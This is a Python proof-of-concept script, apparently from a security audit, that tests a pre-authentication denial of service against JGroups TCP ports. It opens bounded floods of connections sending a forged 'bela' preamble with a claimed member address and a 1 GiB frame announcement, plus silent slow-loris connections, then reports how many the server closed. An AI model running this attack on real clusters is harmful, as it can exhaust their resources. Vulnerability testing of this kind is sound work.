# The pre-authentication attack of issue 10 (item 4), from a host without the key: per port, 32 connections that
# send JGroups' plaintext preamble (cookie "bela", version, a claimed member address) and announce a 1 GiB frame,
# then 32 that send nothing (slow loris). Holds them HOLD seconds, then prints one line per port:
#   PORT announced=N closed=M silent=N closed=M
# where "closed" counts connections the server closed (EOF or reset seen). Bounded: 64 sockets per port, one
# connect timeout of 1 s each, one hold.
# argv: TARGET_IP PORTS(comma-separated) CLAIMED_IP HOLD_SECONDS
import socket
import struct
import sys
import time

target, ports, claimed, hold = sys.argv[1], [int(p) for p in sys.argv[2].split(",")], sys.argv[3], float(sys.argv[4])
VERSION = (5 << 11) + (5 << 6) + 7  # JGroups 5.5.7, as Version.encode


def preamble(port):
    addr = struct.pack("!B", 4) + socket.inet_aton(claimed) + struct.pack("!H", port)
    return b"bela" + struct.pack("!hh", VERSION, len(addr)) + addr


def connect(port, payload):
    s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    s.settimeout(1)
    try:
        s.connect((target, port))
        if payload:
            s.sendall(payload)
    except OSError:
        pass
    return s


def closed(s):
    s.setblocking(False)
    try:
        return s.recv(1) == b""
    except BlockingIOError:
        return False
    except OSError:
        return True


results = {}
for port in ports:
    flood = [connect(port, preamble(port) + struct.pack("!i", 1 << 30) + b"\0" * 4096) for _ in range(32)]
    silent = [connect(port, b"") for _ in range(32)]
    results[port] = (flood, silent)
time.sleep(hold)
for port, (flood, silent) in results.items():
    print("%d announced=%d closed=%d silent=%d closed=%d" % (port, len(flood), sum(map(closed, flood)),
                                                            len(silent), sum(map(closed, silent))))
    for s in flood + silent:
        s.close()
